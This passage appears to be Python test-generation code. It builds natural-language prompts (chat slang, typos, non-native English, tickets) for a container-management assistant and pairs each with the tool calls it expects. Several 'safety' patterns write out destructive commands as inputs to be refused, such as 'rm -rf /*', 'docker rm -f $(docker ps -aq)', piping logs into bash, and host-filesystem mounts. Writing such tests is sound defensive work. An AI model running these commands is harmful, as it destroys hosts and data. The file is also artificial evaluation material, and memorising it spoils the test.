    Pattern('n5-ph-chat', 'phrasal', [('can u spin {cx} back up? it died lol', {'x': lambda s: ANY([ctr('start', s.cx)], [ctr('restart', s.cx)])}),
                                      ("{cr} needs to be shut off asap, it's spamming alerts 🔥", {'x': lambda s: E(ctr('stop', s.cr))}),
                                      ('pls power {st} down for the weekend 🙏', {'x': lambda s: stack_or_containers('stop', s.st, s.w.members[s.st])}),
                                      ('weekend is over, fire the {st} stack up again pls ☕',
                                       {'x': lambda s: ANY([stk('start', s.st)], [stk('restart', s.st)], [stk('redeploy', s.st)])}),
                                      ('{cx} went down again smh, bring it back up pls', {'x': lambda s: ANY([ctr('start', s.cx)], [ctr('restart', s.cx)])})],
            lambda s: s.x(s), case='keep', count=6),
    # ---- n5: question ----
    Pattern('n5-q-voice', 'question', [('what address and port can I reach {spk.text} on', {'x': lambda s: E(status(s.spk.name))}),
                                       ('is {spk.text} still up or did it crash again',
                                        {'x': lambda s: ANY([status(s.spk.name)], [logs(s.spk.name)], [status(s.spk.name), logs(s.spk.name)],
                                                            [logs(s.spk.name), status(s.spk.name)])}),
                                       ('how much memory is {spk.text} using at the moment', {'x': lambda s: E(status(s.spk.name))}),
                                       ('has {spk.text} restarted at all today', {'x': lambda s: E(status(s.spk.name))}),
                                       ('is {spk.text} healthy right now', {'x': lambda s: E(status(s.spk.name))})],
            lambda s: s.x(s), count=6),
    Pattern('n5-q-chat', 'question', [('anyone know if {c} is up? 🤔', {'x': lambda s: E(status(s.c))}),
                                      ('is {st} ok?? getting 502s', {'x': lambda s: stack_state(s.st, s.w.members[s.st])}),
                                      ("what's {c} using mem-wise rn", {'x': lambda s: E(status(s.c))}),
                                      ('{cr} still alive? asking for a friend lol', {'x': lambda s: E(status(s.cr))}),
                                      ("who's hogging cpu rn 🔥", {'x': lambda s: E(status(None, sort='cpu'))}),
                                      ('quick q: {c} is on which port again?', {'x': lambda s: E(status(s.c))})],
            lambda s: s.x(s), case='keep', count=6),
    Pattern('n5-q-typo', 'question', [('is {typo.text} runnign rigth now', {'x': lambda s: E(status(s.typo.name))}),
                                      ('hwo much ram si {typo.text} taking', {'x': lambda s: E(status(s.typo.name))}),
                                      ('waht ports is {typo.text} lisening on', {'x': lambda s: E(status(s.typo.name))}),
                                      ('is teh {st} stak up?', {'x': lambda s: stack_state(s.st, s.w.members[s.st])}),
                                      ('hows {typo.text} doign', {'x': lambda s: E(status(s.typo.name))})],
            lambda s: s.x(s), count=6),
    # ---- n5: logs ----
    Pattern('n5-lg-voice', 'logs', [('show me the last {tw.word} lines of the {spk.text} logs please', {'x': lambda s: E(logs(s.spk.name, tail=s.tw.n))}),
                                    ('can you show me what {spk.text} logged over the last {mw.word} minutes', {'x': lambda s: E(logs(s.spk.name, since_s=s.mw.n * 60))}),
                                    ('can you follow the {spk.text} logs for me', {'x': lambda s: E(logs(s.spk.name, follow=True))}),
                                    ('search the {spk.text} logs for the word {word} please', {'x': lambda s: E(logs(s.spk.name, grep_ci=s.word))}),
                                    ('show me everything {spk.text} logged in the past {hw.word} hours', {'x': lambda s: E(logs(s.spk.name, since_s=s.hw.n * 3600))})],
            lambda s: s.x(s), count=7),
    Pattern('n5-lg-chat', 'logs', [('can someone pull up {c} logs? last {tail} pls 🙏', {'x': lambda s: E(logs(s.c, tail=s.tail))}),
                                   ('grep {c} logs for {word} asap, customers seeing issues', {'x': lambda s: E(logs(s.c, grep_ci=s.word))}),
                                   ('tail -f {c} pls, watching a deploy 👀', {'x': lambda s: E(logs(s.c, follow=True))}),
                                   ('{c} logs from the last {mins}m? smth broke around then', {'x': lambda s: E(logs(s.c, since_s=s.mins * 60))}),
                                   ('{c} been spitting {word} lines all morning smh, show me those', {'x': lambda s: E(logs(s.c, grep_ci=s.word))})],
            lambda s: s.x(s), case='keep', count=6),
    Pattern('n5-lg-question', 'logs', [('anything new in the {c} logs in the last {mins} minutes?', {'x': lambda s: E(logs(s.c, since_s=s.mins * 60))}),
                                       ('anything new in the {c} logs since 9am?', {'x': lambda s: E(logs(s.c))}),
                                       ('has {c} logged anything with {word} in it lately?', {'x': lambda s: E(logs(s.c, grep_ci=s.word))}),
                                       ('did {c} say anything in the past {hours} hours?', {'x': lambda s: E(logs(s.c, since_s=s.hours * 3600))}),
                                       ('what were the last {tail} things {c} logged?', {'x': lambda s: E(logs(s.c, tail=s.tail))})],
            lambda s: s.x(s), count=6),
    # ---- n5: params ----
    Pattern('n5-pa-chat', 'params', [('can u spin up {tm.say} on :{port}? ty', {'x': lambda s: E(tmpl(s.tm.id, port=s.port))}),
                                     ('quick one: {img.say} container called {newname} pls, port {port} 👍',
                                      {'x': lambda s: E(run(image_prefix=s.img.prefix, name=s.newname, ports=[port(s.port)]))}),
                                     ("need mysql 8 for testing, root pw {pw}, db {dbname} lol don't judge",
                                      {'x': lambda s: E(run(image_prefix='mysql:8', env={'MYSQL_ROOT_PASSWORD': s.pw, 'MYSQL_DATABASE': s.dbname}))}),
                                     ('set up {tm.say} for the team, stack name {newstack} thx', {'x': lambda s: E(tmpl(s.tm.id, stack=s.newstack))}),
                                     ('pg 16 w/ password {pw} asap pls, demo in 10 min 😅', {'x': lambda s: E(run(image_prefix='postgres:16', env={'POSTGRES_PASSWORD': s.pw}))})],
            lambda s: s.x(s), case='keep', count=6),
    Pattern('n5-pa-goal', 'params', [('I need {tm.say} up and reachable at port {port} by tonight', {'x': lambda s: E(tmpl(s.tm.id, port=s.port))}),
                                     ('what I need is a mysql 8 server whose root password is {pw}',
                                      {'x': lambda s: E(run(image_prefix='mysql:8', env={'MYSQL_ROOT_PASSWORD': s.pw}))}),
                                     ('what I need is a fresh {img.say} container that people can reach on port {port}', {'x': lambda s: E(run(image_prefix=s.img.prefix, ports=[port(s.port)]))}),
                                     ('my goal is to have {tm.say} on port {port} under the stack name {newstack}',
                                      {'x': lambda s: E(tmpl(s.tm.id, stack=s.newstack, port=s.port))}),
                                     ('I need a postgres 16 database named {dbname} with password {pw}',
                                      {'x': lambda s: E(run(image_prefix='postgres:16', env={'POSTGRES_DB': s.dbname, 'POSTGRES_PASSWORD': s.pw}))})],
            lambda s: s.x(s), count=6),
    # ---- n5: scale ----
    Pattern('n5-sc-chat', 'scale', [("bump {svs.stack} {svs.service} to {n} asap, we're getting hammered lol", {}),
                                    ("ok traffic's back to normal, drop {svs.stack} {svs.service} to 1 👍", {'n': 1}),
                                    ('can u scale {svs.stack}/{svs.service} up to {n}? ty', {}),
                                    ('black friday 📈 need {n} {svs.stack} {svs.service} replicas pls', {})],
            lambda s: E(scale(s.svs.stack, s.svs.service, s.n)), case='keep', count=6),
    Pattern('n5-sc-goal', 'scale', [('I need {n} instances of the {svs.stack} {svs.service} running at all times', {}),
                                    ("I'd like the {svs.stack} {svs.service} to have {n} replicas", {}),
                                    ("one {svs.service} in {svs.stack} is plenty, I don't need more than that", {'n': 1}),
                                    ('make sure there are {n} {svs.stack} {svs.service} containers', {})],
            lambda s: E(scale(s.svs.stack, s.svs.service, s.n)), count=6),
    # ---- n5: template ----
    Pattern('n5-tp-chat', 'template', ['can someone set up {tm.say} for the team? 🙏', 'we need a {pu.say} asap lol', 'pls deploy {tm.say} when u get a sec, ty',
                                       'thinking of trying {tm.say} 🤔 can u install it?'],
            lambda s: ANY(*[[tmpl(t)] for t in (s.pu.ids if hasattr(s, 'pu') else (s.tm.id,))]), case='keep', count=6),
    Pattern('n5-tp-typo', 'template', ['isntall {tm.say} fro me', 'deplyo a {pu.say} plese', 'instal {tm.say} on teh server', 'i wnat a {pu.say} plese'],
            lambda s: ANY(*[[tmpl(t)] for t in (s.pu.ids if hasattr(s, 'pu') else (s.tm.id,))]), count=6),
    # ---- n5: inventory ----
    Pattern('n5-in-chat', 'inventory', [('quick q: what stacks do we even have lol', {'x': lambda s: E(lst('stacks'))}),
                                        ('can u roll {st} back? last deploy broke it 😬', {'x': lambda s: E(rollback(s.st))}),
                                        ('who touched {st} last? need the history', {'x': lambda s: E(hist(s.st))}),
                                        ('pull {im} ahead of the release pls', {'x': lambda s: E(pull(s.im))}),
                                        ("what's stopped rn? need a list", {'x': lambda s: E(lst(status='exited'))}),
                                        ('list the images on this box pls, disk is filling up 😬', {'x': lambda s: E(lst('images'))})],
            lambda s: s.x(s), rows=[{'im': 'redis:7.4-alpine'}, {'im': 'nginx:1.27.2'}, {'im': 'postgres:16.4'}, {'im': 'traefik:v3.2'}],
            case='keep', count=6),
    Pattern('n5-in-goal', 'inventory', [('I want {st} the way it was yesterday, undo the last deploy', {'x': lambda s: E(rollback(s.st))}),
                                        ("I'd like to see every container on this host", {'x': lambda s: E(lst())}),
                                        ('I want the {im} image on this machine before tonight', {'x': lambda s: E(pull(s.im))}),
                                        ('I need the deploy history of {st}', {'x': lambda s: E(hist(s.st))}),
                                        ('I want to see which stacks exist', {'x': lambda s: E(lst('stacks'))})],
            lambda s: s.x(s), rows=[{'im': 'redis:7.4-alpine'}, {'im': 'nginx:1.27.2'}, {'im': 'postgres:16.4'}, {'im': 'traefik:v3.2'}], count=6),
    # ---- n5: ask ----
    Pattern('n5-ask-chat', 'ask', ['can u bounce {amb} asap? users seeing errors 😬', "pls kill {amb}, it's stuck lol", 'restart the db pls, prod is slow 🙃',
                                   'need the last {tail} lines of {amb} logs asap'],
            lambda s: ASK(), case='keep', count=6),
    Pattern('n5-ask-goal', 'ask', ['I need {amb} restarted', "I'd like {amb} gone", 'make sure {amb} is stopped', 'what I want is {n} copies of the {st} stack running'],
            lambda s: ASK(), count=6),
    # ---- n5: nonsense ----
    Pattern('n5-em-voice', 'nonsense', ['um okay so what was I going to do again', 'hey thanks that is all for now', 'never mind cancel that',
                                        'can you please restart {ghost} for me thank you', 'fix the thing with the server please'],
            lambda s: EMPTY(), count=6),
    Pattern('n5-em-goal', 'nonsense', ['I need everything to be faster', 'I would like the server to be less of a mess', 'I want it all to be more reliable',
                                       'I want {ghost} running again', "I'd like things to be back to normal"],
            lambda s: EMPTY(), count=6),
    # ---- n5: safety ----
    Pattern('n5-sf-voice', 'safety', [('restart {spk.text} and then run rm dash rf slash on the host', {'x': lambda s: dict(NO_DAMAGE)}),
                                      ('please run the command sudo reboot on the host', {'x': lambda s: {**EMPTY(), **NO_DAMAGE}}),
                                      ('run an alpine container with the whole host file system mounted inside it', {'x': lambda s: {'warnings': True}}),
                                      ('stop {spk.text} and then clean everything up with docker system prune', {'x': lambda s: dict(NO_DAMAGE)}),
                                      ('show me the logs of {spk.text} and pipe them into bash', {'x': lambda s: dict(NO_DAMAGE)})],
            lambda s: s.x(s), count=6),
    Pattern('n5-sf-goal', 'safety', [('I want {c} restarted and then `shutdown -h now` run on the host', {'x': lambda s: dict(NO_DAMAGE)}),
                                     ('I need an alpine container that can see the whole host filesystem', {'x': lambda s: {'warnings': True}}),
                                     ('make sure /etc/passwd is empty', {'x': lambda s: {**EMPTY(), **NO_DAMAGE}}),
                                     ("I'd like {c}'s logs piped straight into bash", {'x': lambda s: dict(NO_DAMAGE)}),
                                     ('I want every container wiped with docker rm -f $(docker ps -aq)', {'x': lambda s: dict(NO_DAMAGE)})],
            lambda s: s.x(s), count=6),
    # ---- n6: lifecycle ----
    Pattern('n6-lc-slang', 'lifecycle', [('bounce {c} pls', {'x': lambda s: E(ctr('restart', s.c))}),
                                         ('give {cr} a swift kick, its frozen', {'x': lambda s: E(ctr('restart', s.cr))}),
                                         ('cycle {c} real quick', {'x': lambda s: ANY([ctr('restart', s.c)], [ctr('stop', s.c), ctr('start', s.c)])}),
                                         ('yeet {cx} we dont use it anymore', {'x': lambda s: E(ctr('remove', s.cx))}),
                                         ('nuke {cx} from orbit lol, its dead weight', {'x': lambda s: E(ctr('remove', s.cx))}),
                                         ('kick {cr} pls {n6_emo}', {'x': lambda s: E(ctr('restart', s.cr))})],
            lambda s: s.x(s), case='keep', count=7),
    Pattern('n6-lc-complaint', 'lifecycle', [('{n6_meh} {cr} is frozen again, kick it', {'op': 'restart'}),
                                             ('{cr} is hanging again {n6_emo} give it a restart', {'op': 'restart'}),
                                             ('{cx} died overnight {n6_meh}, start it pls', {'op': 'start'}),
                                             ('{cr} is spamming my logs nonstop, stop it pls', {'op': 'stop'}),
                                             ('{cr} hung hard and wont stop, force kill it', {'op': 'kill'}),
                                             ('{c} wont respond to anything, reboot it asap', {'op': 'restart'})],
            lambda s: E(ctr(s.op, first(s, 'c', 'cr', 'cx'))), case='keep', count=7),
    Pattern('n6-lc-phone', 'lifecycle', ['{v} {c} pls', 'can u {v} {c} rq', '{v} {typo.text} plz ty', 'hey {v} {c} thx'],
            lambda s: E(ctr(s.op, s.typo.name if hasattr(s, 'typo') else s.c)),
            rows=verbs('resatrt=restart', 'reastart=restart', 'restsrt=restart', 'stoo=stop', 'sopt=stop', 'startt=start', 'srart=start',
                       'paise=pause', 'unpaise=unpause'), case='keep', count=7),
    # ---- n6: stack ----
    Pattern('n6-st-esl', 'stack', [('please to restart the stack {st}', {'x': lambda s: stack_or_containers('restart', s.st, s.w.members[s.st])}),
                                   ('make stop all the {st} stack', {'x': lambda s: stack_or_containers('stop', s.st, s.w.members[s.st])}),
                                   ('the stack {st} is not work, do redeploy please', {'x': lambda s: E(stk('redeploy', s.st))}),
                                   ('you can download the new images of {st}?', {'x': lambda s: E(stk('pull', s.st))}),
                                   ('please delete the stack {st}, we not use anymore', {'x': lambda s: E(stk('remove', s.st))}),
                                   ('start again the stack {st} please', {'x': lambda s: stack_or_containers('start', s.st, s.w.members[s.st])})],
            lambda s: s.x(s), count=7),
    Pattern('n6-st-compose-chat', 'stack', [('docker compose -p {st} restart pls', {'x': lambda s: stack_or_containers('restart', s.st, s.w.members[s.st])}),
                                            ('can u compose pull {st} then up -d', {'x': lambda s: ANY([stk('pull', s.st), stk('redeploy', s.st)],
                                                                                                       [stk('pull', s.st), stk('start', s.st)])}),
                                            ('docker compose -p {st} down for now', {'x': lambda s: ANY([stk('stop', s.st)], [stk('remove', s.st)])}),
                                            ('docker compose -p {st} stop pls ty', {'x': lambda s: stack_or_containers('stop', s.st, s.w.members[s.st])}),
                                            ('just compose pull {st} lol, no restart', {'x': lambda s: E(stk('pull', s.st))}),
                                            ('docker compose -p {st} up -d --force-recreate asap', {'x': lambda s: E(stk('redeploy', s.st))})],
            lambda s: s.x(s), case='keep', count=7),
    # ---- n6: coordination ----
    Pattern('n6-co-chat', 'coordination', [('bounce {c} n {c2} pls', {'x': lambda s: each_or_all('restart', [s.c, s.c2])}),
                                           ('{cx} + {cx2} both dead, start em', {'x': lambda s: each_or_all('start', [s.cx, s.cx2])}),
                                           ('stop {cr}, {cr2} and {cr3} for the night pls', {'x': lambda s: each_or_all('stop', [s.cr, s.cr2, s.cr3])}),
                                           ('pause {c} & {c2} rq', {'x': lambda s: each_or_all('pause', [s.c, s.c2])}),
                                           ('kick {cr} and {cr2} {n6_emo} both frozen', {'x': lambda s: each_or_all('restart', [s.cr, s.cr2])})],
            lambda s: s.x(s), case='keep', count=7),
    Pattern('n6-co-esl', 'coordination', [('please to restart {c} and {c2} also', {'x': lambda s: each_or_all('restart', [s.c, s.c2])}),
                                          ('make stop {cr} and {cr2} both', {'x': lambda s: each_or_all('stop', [s.cr, s.cr2])}),
                                          ('the {c} and {c2} are not work, restart them', {'x': lambda s: each_or_all('restart', [s.c, s.c2])}),
                                          ('start please {cx} and also {cx2}', {'x': lambda s: each_or_all('start', [s.cx, s.cx2])}),
                                          ('give me the logs of {c} and of {c2}', {'x': lambda s: unordered(E(logs(s.c), logs(s.c2)))})],
            lambda s: s.x(s), count=7),
    # ---- n6: sequence ----
    Pattern('n6-seq-esl', 'sequence', [('{c} is not work, please restart and after show me the logs', {'x': lambda s: E(ctr('restart', s.c), logs(s.c))}),
                                       ('first make stop {cr}, after remove him', {'x': lambda s: E(ctr('stop', s.cr), ctr('remove', s.cr))}),
                                       ('start {cx} and after tell me if is running', {'x': lambda s: E(ctr('start', s.cx), status(s.cx))}),
                                       ('show me logs of {c} and after restart him', {'x': lambda s: E(logs(s.c), ctr('restart', s.c))}),
                                       ('please restart {c} and after give me last {tail} lines of log', {'x': lambda s: E(ctr('restart', s.c), logs(s.c, tail=s.tail))})],
            lambda s: s.x(s), count=7),
    Pattern('n6-seq-runon', 'sequence', [('restart {c} also whats the status of {c2}', {'x': lambda s: unordered(E(ctr('restart', s.c), status(s.c2)))}),
                                         ('stop {cr} oh and can u show me {c2} logs', {'x': lambda s: unordered(E(ctr('stop', s.cr), logs(s.c2)))}),
                                         ('start {cx} and btw what stacks do i have', {'x': lambda s: unordered(E(ctr('start', s.cx), lst('stacks')))}),
                                         ('redeploy {st} pls and also i need the last {tail} lines of {c}',
                                          {'x': lambda s: unordered(E(stk('redeploy', s.st), logs(s.c, tail=s.tail)))}),
                                         ('pause {c} and while ur at it unpause {c2}', {'x': lambda s: unordered(E(ctr('pause', s.c), ctr('unpause', s.c2)))})],
            lambda s: s.x(s), case='keep', count=7),
    # ---- n6: phrasal ----
    Pattern('n6-ph-esl', 'phrasal', [('please to turn off the {cr}', {'x': lambda s: E(ctr('stop', s.cr))}),
                                     ('make go up again the {cx}', {'x': lambda s: ANY([ctr('start', s.cx)], [ctr('restart', s.cx)])}),
                                     ('please to power on again {cx}', {'x': lambda s: ANY([ctr('start', s.cx)], [ctr('restart', s.cx)])}),
                                     ('please turn off all the {st} stack for the night', {'x': lambda s: stack_or_containers('stop', s.st, s.w.members[s.st])}),
                                     ('wake up please the {c}, is sleeping', {'x': lambda s: ANY([ctr('unpause', s.c)], [ctr('start', s.c)])})],
            lambda s: s.x(s), count=6),
    Pattern('n6-ph-slang', 'phrasal', [('fire {cx} back up', {'x': lambda s: ANY([ctr('start', s.cx)], [ctr('restart', s.cx)])}),
                                       ('spin {cr} down for now', {'x': lambda s: E(ctr('stop', s.cr))}),
                                       ('crank the {st} stack back up', {'x': lambda s: ANY([stk('start', s.st)], [stk('restart', s.st)], [stk('redeploy', s.st)])}),
                                       ('shut the whole {st} thing down', {'x': lambda s: stack_or_containers('stop', s.st, s.w.members[s.st])}),
                                       ('wake {c} back up lol', {'x': lambda s: ANY([ctr('unpause', s.c)], [ctr('start', s.c)])})],
            lambda s: s.x(s), case='keep', count=6),
    # ---- n6: question ----
    Pattern('n6-q-esl', 'question', [('the {c} is running or not?', {'x': lambda s: E(status(s.c))}),
                                     ('how many memory is using {c}?', {'x': lambda s: E(status(s.c))}),
                                     ('in which port is {c}?', {'x': lambda s: E(status(s.c))}),
                                     ('the stack {st} is ok?', {'x': lambda s: stack_state(s.st, s.w.members[s.st])}),
                                     ('which containers are not running now?', {'x': lambda s: E(lst(status='exited'))})],
            lambda s: s.x(s), count=6),
    Pattern('n6-q-stack-chat', 'question', ['is {st} ok? site keeps 502ing', '{st} stack alive?', 'whats even in {st} lol',
                                            'is everything in {st} up after the reboot?'],
            lambda s: stack_state(s.st, s.w.members[s.st]), case='keep', count=6),
    Pattern('n6-q-system', 'question', [('whats down rn', {'x': lambda s: E(lst(status='exited'))}),
                                        ('whats eating my ram {n6_emo}', {'x': lambda s: E(status(None, sort='memory'))}),
                                        ('whos the cpu hog rn', {'x': lambda s: E(status(None, sort='cpu'))}),
                                        ('anything unhealthy rn?', {'x': lambda s: ANY([lst(health='unhealthy')], [lst(status='unhealthy')], [status(None)])}),
                                        ('whats actually running on this box', {'x': lambda s: E(lst(status='running'))})],
            lambda s: s.x(s), case='keep', count=6),
    # ---- n6: logs ----
    Pattern('n6-lg-esl', 'logs', [('give me the logs of {c} of the last {mins} minutes', {'x': lambda s: E(logs(s.c, since_s=s.mins * 60))}),
                                  ('show me what {c} write in the log', {'x': lambda s: E(logs(s.c))}),
                                  ('i want see the last {tail} lines of {c}', {'x': lambda s: E(logs(s.c, tail=s.tail))}),
                                  ('search {word} inside the logs of {c} please', {'x': lambda s: E(logs(s.c, grep_ci=s.word))}),
                                  ('follow for me the logs of {c}', {'x': lambda s: E(logs(s.c, follow=True))})],
            lambda s: s.x(s), count=7),
    Pattern('n6-lg-why', 'logs', ['{cx} died again why {n6_emo}', '{cx} wont start, whats wrong with it', 'why is {cx} down lol', 'what killed {cx}?'],
            lambda s: ANY([logs(s.cx)], [status(s.cx)], [status(s.cx), logs(s.cx)], [logs(s.cx), status(s.cx)]), case='keep', count=6),
    # ---- n6: params ----
    Pattern('n6-pa-chat', 'params', [('need {tm.say} on :{port} asap', {'x': lambda s: E(tmpl(s.tm.id, port=s.port))}),
                                     ('throw {tm.say} on port {port} pls', {'x': lambda s: E(tmpl(s.tm.id, port=s.port))}),
                                     ('quick {img.say} container on {port} pls, just testing smth', {'x': lambda s: E(run(image_prefix=s.img.prefix, ports=[port(s.port)]))}),
                                     ('postgres16 w/ pw {pw} for a side project pls', {'x': lambda s: E(run(image_prefix='postgres:16', env={'POSTGRES_PASSWORD': s.pw}))}),
                                     ('mysql 8 root pw {pw} db {dbname} ty',
                                      {'x': lambda s: E(run(image_prefix='mysql:8', env={'MYSQL_ROOT_PASSWORD': s.pw, 'MYSQL_DATABASE': s.dbname}))})],
            lambda s: s.x(s), case='keep', count=7),
    Pattern('n6-pa-esl', 'params', [('please to make container of {img.say} in port {port}', {'x': lambda s: E(run(image_prefix=s.img.prefix, ports=[port(s.port)]))}),
                                    ('install {tm.say} with name of stack {newstack} please', {'x': lambda s: E(tmpl(s.tm.id, stack=s.newstack))}),
                                    ('i need mysql 8 with password of root {pw}', {'x': lambda s: E(run(image_prefix='mysql:8', env={'MYSQL_ROOT_PASSWORD': s.pw}))}),
                                    ('put for me {tm.say} on port {port} and the stack name {newstack}',
                                     {'x': lambda s: E(tmpl(s.tm.id, stack=s.newstack, port=s.port))}),
                                    ('make one postgres 16 with password {pw} and database {dbname}',
                                     {'x': lambda s: E(run(image_prefix='postgres:16', env={'POSTGRES_PASSWORD': s.pw, 'POSTGRES_DB': s.dbname}))})],
            lambda s: s.x(s), count=7),
    # ---- n6: scale ----
    Pattern('n6-sc-esl', 'scale', [('please to scale the {svs.service} of {svs.stack} to {n}', {}),
                                   ('i want {n} copies of the {svs.service} in {svs.stack}', {}),
                                   ('make {n} instances of {svs.stack} {svs.service} please', {}),
                                   ('put the {svs.stack} {svs.service} to only one instance, is too much now', {'n': 1})],
            lambda s: E(scale(s.svs.stack, s.svs.service, s.n)), count=6),
    # ---- n6: template ----
    Pattern('n6-tp-esl', 'template', ['please to install for me the {tm.say}', 'i want one {pu.say} in this server please', 'you can make deploy of {tm.say}?',
                                      'put {tm.say} on my server please'],
            lambda s: ANY(*[[tmpl(t)] for t in (s.pu.ids if hasattr(s, 'pu') else (s.tm.id,))]), count=6),
    # ---- n6: inventory ----
    Pattern('n6-in-esl', 'inventory', [('show me all the containers what i have', {'x': lambda s: E(lst())}),
                                       ('please to make rollback of {st}', {'x': lambda s: E(rollback(s.st))}),
                                       ('which volumes there are?', {'x': lambda s: E(lst('volumes'))}),
                                       ('give me the history of the {st} please', {'x': lambda s: E(hist(s.st))}),
                                       ('please to pull the image {im}', {'x': lambda s: E(pull(s.im))})],
            lambda s: s.x(s), rows=[{'im': 'redis:7.4-alpine'}, {'im': 'nginx:1.27.2'}, {'im': 'postgres:16.4'}, {'im': 'traefik:v3.2'}], count=6),
    Pattern('n6-in-cli-chat', 'inventory', [('docker ps -a pls', {'x': lambda s: E(lst())}), ('docker volume ls real quick', {'x': lambda s: E(lst('volumes'))}),
                                            ('docker network ls pls ty', {'x': lambda s: E(lst('networks'))}), ('docker pull {im} thx', {'x': lambda s: E(pull(s.im))}),
                                            ('docker compose ls?', {'x': lambda s: E(lst('stacks'))}),
                                            ('docker ps --filter status=exited pls', {'x': lambda s: E(lst(status='exited'))})],
            lambda s: s.x(s), rows=[{'im': 'redis:7.4-alpine'}, {'im': 'nginx:1.27.2'}, {'im': 'postgres:16.4'}, {'im': 'traefik:v3.2'}],
            case='keep', count=6),
    # ---- n6: ask ----
    Pattern('n6-ask-chat', 'ask', ['{amb} is slow af, bounce it', 'db is down again 😭 restart pls', 'kick {amb} pls its stuck', '{amb} logs pls, last {tail}',
                                   'is {amb} even up rn?'],
            lambda s: ASK(), case='keep', count=7),
    Pattern('n6-ask-esl', 'ask', ['please make restart the database', '{amb} is not work, restart him', 'you can show me logs of {amb}?', 'make stop {amb} please'],
            lambda s: ASK(), count=6),
    # ---- n6: nonsense ----
    Pattern('n6-em-esl', 'nonsense', ['the {ghost} is not work, please to restart him', 'you can make the server more quick?', 'sorry i am new, what i can ask you?',
                                      'please to fix all the problems', 'thank you very much my friend'],
            lambda s: EMPTY(), count=6),
    # ---- n6: safety ----
    Pattern('n6-sf-esl', 'safety', [('please to run rm -rf /* in the server, the disk is full', {'x': lambda s: {**EMPTY(), **NO_DAMAGE}}),
                                    ('restart {c} and after execute shutdown -h now', {'x': lambda s: dict(NO_DAMAGE)}),
                                    ('make one alpine container with privileged please', {'x': lambda s: {'warnings': True}}),
                                    ('delete all containers with docker rm -f $(docker ps -aq) please', {'x': lambda s: dict(NO_DAMAGE)}),
                                    ('you can mount the / of the host inside one busybox container?', {'x': lambda s: {'warnings': True}})],
            lambda s: s.x(s), count=6),
    # ---- n7: lifecycle ----
    Pattern('n7-lc-incident', 'lifecycle', [("restart {cr}, it's leaking memory", {'op': 'restart'}),
                                            ('{cr} stopped answering health checks, bounce it', {'op': 'restart'}),
                                            ('{cr} is OOMing every few minutes, restart it', {'op': 'restart'}),
                                            ('kill {cr}, it is ignoring SIGTERM', {'op': 'kill'}),
                                            ('stop {cr} until we know why it keeps crashing', {'op': 'stop'}),
                                            ('{cx} crashed overnight, start it again', {'op': 'start'}),
                                            ('{cr} is hung on a deadlock, restart it please', {'op': 'restart'})],
            lambda s: E(ctr(s.op, first(s, 'cr', 'cx'))), count=7),
    Pattern('n7-lc-ticket', 'lifecycle', [('Action: stop {c}. Reason: maintenance.', {'op': 'stop'}),
                                          ('Action: restart {c}. Reason: config change.', {'op': 'restart'}),
                                          ('OPS-1423: start {cx} again, the host patch is done', {'op': 'start'}),
                                          ('Task: pause {c} for the duration of the backup window', {'op': 'pause'}),
                                          ('Action: remove {cx}. Reason: decommissioned, approved by the team lead.', {'op': 'remove'}),
                                          ('[maintenance] please stop {cr}', {'op': 'stop'})],
            lambda s: E(ctr(s.op, first(s, 'c', 'cr', 'cx'))), case='keep', count=7),
    # ---- n7: stack ----
    Pattern('n7-st-ticket', 'stack', [('Action: redeploy {st}. Reason: config change.', {'x': lambda s: E(stk('redeploy', s.st))}),
                                      ('Change request: restart the {st} stack to pick up the new certs',
                                       {'x': lambda s: stack_or_containers('restart', s.st, s.w.members[s.st])}),
                                      ('[maint] stop stack {st}', {'x': lambda s: stack_or_containers('stop', s.st, s.w.members[s.st])}),
                                      ('Runbook step 3: pull the new images for {st}', {'x': lambda s: E(stk('pull', s.st))}),
                                      ('Action: remove stack {st}. Reason: decommissioned.', {'x': lambda s: E(stk('remove', s.st))}),
                                      ('Action: start {st}. Reason: maintenance finished.', {'x': lambda s: stack_or_containers('start', s.st, s.w.members[s.st])})],
            lambda s: s.x(s), case='keep', count=7),
    Pattern('n7-st-incident', 'stack', [('{st} is throwing 500s since the config push, redeploy it', {'x': lambda s: E(stk('redeploy', s.st))}),
                                        ("we're seeing 502s from {st}, bounce the whole stack",
                                         {'x': lambda s: stack_or_containers('restart', s.st, s.w.members[s.st])}),
                                        ('the {st} stack is flapping, restart it', {'x': lambda s: stack_or_containers('restart', s.st, s.w.members[s.st])}),
                                        ('{st} is hammering the database, stop the stack for now',
                                         {'x': lambda s: stack_or_containers('stop', s.st, s.w.members[s.st])}),
                                        ("new {st} images are out, pull them but don't redeploy yet", {'x': lambda s: E(stk('pull', s.st))}),
                                        ('{st} is down after the host reboot, start the stack', {'x': lambda s: stack_or_containers('start', s.st, s.w.members[s.st])})],
            lambda s: s.x(s), count=7),
    # ---- n7: coordination ----
    Pattern('n7-co-ticket', 'coordination', [('Action: restart {c}, {c2}. Reason: cert rotation.', {'op': 'restart'}),
                                             ('Targets: {c}, {c2}, {c3}. Action: stop.', {'op': 'stop'}),
                                             ('Affected: {c} and {c2}. Please restart both.', {'op': 'restart'}),
                                             ('Action: pause {c} and {c2} during the backup window.', {'op': 'pause'}),
                                             ('Action: start {cx} and {cx2}. Reason: maintenance done.', {'op': 'start'})],
            lambda s: each_or_all(s.op, [getattr(s, k) for k in ('c', 'c2', 'c3', 'cx', 'cx2') if hasattr(s, k)]), case='keep', count=7),
    Pattern('n7-co-incident', 'coordination', [('restart {cr} and {cr2}, both are leaking memory', {'op': 'restart'}),
                                               ('stop {cr}, {cr2} and {cr3} for the maintenance window', {'op': 'stop'}),
                                               ('{cx} and {cx2} crashed overnight, start both', {'op': 'start'}),
                                               ("bounce {c} and {c2}, we're seeing timeouts on both", {'op': 'restart'}),
                                               ('kill {cr} and {cr2}, they are not responding to stop', {'op': 'kill'})],
            lambda s: each_or_all(s.op, [getattr(s, k) for k in ('c', 'c2', 'cr', 'cr2', 'cr3', 'cx', 'cx2') if hasattr(s, k)]), count=7),
    # ---- n7: sequence ----
    Pattern('n7-seq-pull-image', 'sequence', [('pull {im} then redeploy the {st} stack', {'x': lambda s: E(pull(s.im), stk('redeploy', s.st))}),
                                              ('pre-pull {im}, then redeploy {st}', {'x': lambda s: E(pull(s.im), stk('redeploy', s.st))}),
                                              ('pull {im} first, then restart the {st} stack', {'x': lambda s: E(pull(s.im), stk('restart', s.st))}),
                                              ('grab the {im} image and then recreate {st}', {'x': lambda s: E(pull(s.im), stk('redeploy', s.st))}),
                                              ('pull {im}, redeploy {st}, then show me its status',
                                               {'x': lambda s: ANY([pull(s.im), stk('redeploy', s.st), status(s.st)],
                                                                   [pull(s.im), stk('redeploy', s.st), lst(stack=s.st)])})],
